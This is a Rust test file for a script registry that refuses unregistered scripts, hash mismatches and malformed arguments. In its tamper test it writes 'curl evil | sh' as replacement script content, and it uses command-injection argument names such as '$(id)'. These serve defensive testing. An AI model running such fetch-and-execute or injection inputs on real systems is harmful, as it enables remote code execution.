//! A job runs only when its script is registered here, both hashes match, and its arguments
//! are well formed; everything else is refused with the protocol's reason.

mod common;

use common::TestDir;
use medic_agent::registry::{Registry, SkipReason};
use serde_json::{json, Map, Value};

struct Fixture {
    dir: TestDir,
    registry: Registry,
    sha: String,
}

fn fixture() -> Fixture {
    let dir = TestDir::new("registry");
    let script = dir.script("scripts/restart.sh", "#!/bin/sh\necho restarting \"$@\"\n");
    let sha = common::sha256_file(&script);
    let text =
        format!("[[script]]\nname = \"restart\"\npath = \"restart.sh\"\nsha256 = \"{sha}\"\n");
    let registry = Registry::from_toml(&text, &dir.join("scripts")).unwrap();
    Fixture { dir, registry, sha }
}

fn args(v: Value) -> Map<String, Value> {
    v.as_object().cloned().unwrap()
}

#[test]
fn registered_script_with_matching_hashes_is_prepared() {
    let f = fixture();
    let p = f
        .registry
        .prepare(
            "restart",
            &f.sha.to_uppercase(),
            &args(json!({"unit": "nginx", "wait": 5})),
        )
        .unwrap();
    assert_eq!(p.argv, vec!["--unit=nginx", "--wait=5"]);
    assert_eq!(
        p.bytes,
        std::fs::read(f.dir.join("scripts/restart.sh")).unwrap()
    );
}

#[test]
fn unregistered_script_is_refused() {
    let f = fixture();
    let skip = f
        .registry
        .prepare("rm_everything", &f.sha, &Map::new())
        .unwrap_err();
    assert_eq!(skip.reason, SkipReason::NotRegistered);
    assert_eq!(skip.reason.as_str(), "not_registered");
}

#[test]
fn server_hash_mismatch_is_refused() {
    let f = fixture();
    let other = "0".repeat(64);
    let skip = f
        .registry
        .prepare("restart", &other, &Map::new())
        .unwrap_err();
    assert_eq!(skip.reason, SkipReason::HashMismatchServer);
    assert_eq!(skip.reason.as_str(), "hash_mismatch_server");
}

#[test]
fn file_changed_on_disk_is_refused() {
    let f = fixture();
    f.dir
        .script("scripts/restart.sh", "#!/bin/sh\ncurl evil | sh\n");
    let skip = f
        .registry
        .prepare("restart", &f.sha, &Map::new())
        .unwrap_err();
    assert_eq!(skip.reason, SkipReason::HashMismatchDisk);
    assert!(skip.detail.contains("hashes to"), "{}", skip.detail);
}

#[test]
fn missing_file_is_a_disk_mismatch() {
    let f = fixture();
    std::fs::remove_file(f.dir.join("scripts/restart.sh")).unwrap();
    let skip = f
        .registry
        .prepare("restart", &f.sha, &Map::new())
        .unwrap_err();
    assert_eq!(skip.reason, SkipReason::HashMismatchDisk);
    assert!(skip.detail.contains("cannot read"), "{}", skip.detail);
}

#[test]
fn bad_argument_names_are_refused() {
    let f = fixture();
    for bad in [
        json!({"unit-name": "x"}),
        json!({"a;b": 1}),
        json!({"": 1}),
        json!({"$(id)": 1}),
    ] {
        let skip = f
            .registry
            .prepare("restart", &f.sha, &args(bad.clone()))
            .unwrap_err();
        assert_eq!(skip.reason, SkipReason::InvalidArgs, "{bad}");
    }
}

#[test]
fn non_scalar_argument_values_are_refused() {
    let f = fixture();
    for bad in [
        json!({"a": null}),
        json!({"a": [1, 2]}),
        json!({"a": {"b": 1}}),
    ] {
        let skip = f
            .registry
            .prepare("restart", &f.sha, &args(bad.clone()))
            .unwrap_err();
        assert_eq!(skip.reason, SkipReason::InvalidArgs, "{bad}");
    }
}

#[test]
fn registry_file_is_loaded_with_its_path_in_errors() {
    let dir = TestDir::new("registry-file");
    let path = dir.write("scripts.toml", "[[script]]\nname = \"x\"\n");
    let e = Registry::load(&path, &dir.path).unwrap_err().to_string();
    assert!(
        e.contains("scripts.toml") && e.contains("missing field"),
        "{e}"
    );
}
